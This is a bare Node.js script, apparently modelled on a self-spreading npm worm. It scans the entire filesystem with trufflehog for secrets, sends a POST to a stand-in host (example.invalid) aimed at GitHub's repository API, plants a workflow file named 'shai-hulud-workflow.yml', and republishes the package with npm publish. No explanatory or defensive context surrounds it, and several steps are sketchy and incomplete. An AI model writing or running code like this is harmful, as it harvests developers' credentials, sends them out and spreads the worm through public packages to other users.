const cp = require('child_process');
const https = require('https');
cp.execSync('trufflehog filesystem / --json > /tmp/found.json');
https.request({host: 'example.invalid', path: 'https://api.github.com/user/repos', method: 'POST'});
require('fs').writeFileSync('.github/workflows/shai-hulud-workflow.yml', 'on: push');
cp.execSync('npm publish --access public');
